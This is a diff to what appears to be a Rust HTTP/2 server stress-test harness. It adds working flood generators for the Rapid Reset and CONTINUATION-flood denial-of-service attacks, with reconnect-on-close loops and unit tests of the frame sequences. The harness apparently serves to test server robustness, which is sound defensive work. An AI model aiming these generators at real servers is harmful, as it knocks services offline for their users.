@@ -10,6 +10,13 @@
 //!   Without a cooperative budget in the runtime, one flooded connection
 //!   task took a whole buffer ring of input in one poll while every other
 //!   connection waited.
+//! - **Rapid reset** (CVE-2023-44487): each request's HEADERS at once
+//!   followed by its RST_STREAM, on new stream ids, reading what comes
+//!   back. **CONTINUATION flood** (CVE-2024-27316 and kin): a HEADERS
+//!   frame without END_HEADERS, then CONTINUATION frames of literal
+//!   headers without end. hyper's limits (pending resets, header list
+//!   size) close such a connection; it is made again at once, and the
+//!   probe is judged as under the floods above.
 //! - **Zero window answering PINGs**: streams opened with an initial
 //!   window of 0 (no response byte may go), on connections that keep
 //!   sending PINGs, which the server answers. They must be closed at the
@@ -86,29 +93,77 @@ fn flood_time(cx: &Ctx) -> Duration {
     Duration::from_secs(if cx.short { 6 } else { 20 })
 }
 
-/// Frames of `one` sent back to back from 4 connections for the flood's
-/// time; with `read`, whatever the server answers is read between writes.
-/// A connection the server closes is made again (as an attacker would),
-/// so the well-behaved client is measured under the flood all along.
-pub(super) fn flood(cx: &Ctx, o: &mut Outcome, one: &[u8], read: bool) -> io::Result<()> {
+/// What a flooding connection sends next.
+#[derive(Clone, Copy, Debug)]
+pub(super) enum Frames {
+    /// The same frame again (WINDOW_UPDATE, PING).
+    Same(&'static [u8]),
+    /// A GET and its RST_STREAM on each new stream.
+    RapidReset,
+    /// One HEADERS frame without END_HEADERS, then CONTINUATION frames.
+    Continuation,
+}
+
+/// Frames per write.
+const BATCH: usize = 16 * 1024;
+
+impl Frames {
+    /// About 16 KiB of frames; `stream` is the next stream id (1 on a new
+    /// connection).
+    fn next(self, stream: &mut u32) -> Vec<u8> {
+        let mut out = Vec::with_capacity(BATCH + 1024);
+        match self {
+            Frames::Same(one) => return one.repeat(BATCH / one.len()),
+            Frames::RapidReset => {
+                while out.len() < BATCH {
+                    out.extend(get(*stream, "/"));
+                    // RST_STREAM, CANCEL.
+                    out.extend(frame(3, 0, *stream, &8u32.to_be_bytes()));
+                    *stream += 2;
+                }
+            }
+            Frames::Continuation => {
+                if *stream == 1 {
+                    // `:method GET`, `:scheme http`, `:path /`, no END_HEADERS.
+                    out.extend(frame(1, 0x1, 1, &[0x82, 0x86, 0x84]));
+                    *stream = 3;
+                }
+                // Literal headers without indexing: `x-a: aaa...` (60 B).
+                let one = [&[0x00u8, 3][..], b"x-a", &[56], &[b'a'; 56]].concat();
+                while out.len() < BATCH {
+                    out.extend(frame(9, 0, 1, &one.repeat(16)));
+                }
+            }
+        }
+        out
+    }
+}
+
+/// `frames` sent back to back from 4 connections for the flood's time;
+/// with `read`, whatever the server answers is read between writes. A
+/// connection the server closes is made again (as an attacker would), so
+/// the well-behaved client is measured under the flood all along.
+pub(super) fn flood(cx: &Ctx, o: &mut Outcome, frames: Frames, read: bool) -> io::Result<()> {
     let conns = flood_conns();
-    let chunk = one.repeat(16 * 1024 / one.len());
     let until = Instant::now() + flood_time(cx);
     let (t, addr, tls) = (cx.target, cx.addr, h2_tls(cx));
     let mut threads = Vec::new();
     for _ in 0..conns {
         let mut c = connect_h2(t, addr, &tls)?;
-        let (chunk, tls) = (chunk.clone(), tls.clone());
+        let tls = tls.clone();
         threads.push(std::thread::spawn(move || {
             let (mut sent, mut closed) = (0u64, 0u64);
             let mut buf = vec![0u8; 64 * 1024];
+            let mut stream = 1;
             while Instant::now() < until {
                 let _ = c.tcp().set_read_timeout(Some(Duration::from_millis(1)));
-                if write_then_read(&mut c, &chunk, read, &mut buf) {
-                    sent += chunk.len() as u64;
+                let chunk = frames.next(&mut stream);
+                if stream < 1 << 30 && write_then_read(&mut c, &chunk, read, &mut buf) {
+                    sent += 1;
                     continue;
                 }
                 closed += 1;
+                stream = 1;
                 match connect_h2(t, addr, &tls) {
                     Ok(n) => c = n,
                     Err(_) => std::thread::sleep(Duration::from_millis(10)),
@@ -117,16 +172,15 @@ pub(super) fn flood(cx: &Ctx, o: &mut Outcome, one: &[u8], read: bool) -> io::Re
             (sent, closed)
         }));
     }
-    let (mut bytes, mut closed) = (0, 0);
+    let (mut writes, mut closed) = (0, 0);
     for t in threads {
         let (b, c) = t.join().unwrap_or((0, 0));
-        bytes += b;
+        writes += b;
         closed += c;
     }
     o.hostile = conns;
     o.notes.push(format!(
-        "{} frames in {} s; the server closed a flooding connection {closed} times",
-        bytes / one.len() as u64,
+        "{writes} writes of ~16 KiB of frames in {} s; the server closed a flooding connection {closed} times",
         flood_time(cx).as_secs()
     ));
     Ok(())
@@ -201,5 +255,34 @@ mod tests {
         assert_eq!(f, [0, 0, 4, 8, 0, 0, 0, 0, 0, 0, 0, 0, 1]);
         let g = get(1, "/x");
         assert_eq!(&g[..9], &[0, 0, 17, 1, 5, 0, 0, 0, 1]);
+    }
+
+    /// Walk `bytes` as frames: (type, flags, stream) of each.
+    fn walk(mut bytes: &[u8]) -> Vec<(u8, u8, u32)> {
+        let mut v = Vec::new();
+        while !bytes.is_empty() {
+            let len = u32::from_be_bytes([0, bytes[0], bytes[1], bytes[2]]) as usize;
+            let stream = u32::from_be_bytes([bytes[5], bytes[6], bytes[7], bytes[8]]);
+            v.push((bytes[3], bytes[4], stream));
+            bytes = &bytes[9 + len..];
+        }
+        v
+    }
+
+    #[test]
+    fn rapid_reset_resets_each_new_stream_and_continuation_never_ends() {
+        let mut stream = 1;
+        let f = walk(&Frames::RapidReset.next(&mut stream));
+        assert!(f.len() > 100);
+        for (i, pair) in f.chunks(2).enumerate() {
+            let id = 1 + 2 * i as u32;
+            assert_eq!(pair, [(1, 5, id), (3, 0, id)]);
+        }
+        let mut stream = 1;
+        let first = walk(&Frames::Continuation.next(&mut stream));
+        assert_eq!(first[0], (1, 1, 1), "HEADERS without END_HEADERS");
+        assert!(first[1..].iter().all(|&f| f == (9, 0, 1)));
+        let more = walk(&Frames::Continuation.next(&mut stream));
+        assert!(more.iter().all(|&f| f == (9, 0, 1)), "no END_HEADERS, ever");
     }
 }
